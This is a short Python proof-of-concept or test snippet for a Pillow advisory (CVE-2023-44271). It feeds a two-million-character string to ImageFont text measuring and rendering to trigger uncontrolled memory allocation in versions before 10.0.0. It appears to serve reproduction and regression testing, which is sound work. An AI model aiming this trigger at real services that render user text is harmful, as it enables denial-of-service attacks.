# PYSEC-2023-227 (CVE-2023-44271): Pillow before 10.0.0, ImageFont lets a very long text allocate an image as
# large as it needs (uncontrolled resource consumption); 10.0.0 refuses text over MAX_STRING_LENGTH.
from PIL import Image, ImageDraw, ImageFont

font = ImageFont.load_default()
ImageDraw.Draw(Image.new("L", (1, 1))).textbbox((0, 0), "x" * 2_000_000, font=font)
font.getmask("x" * 2_000_000)
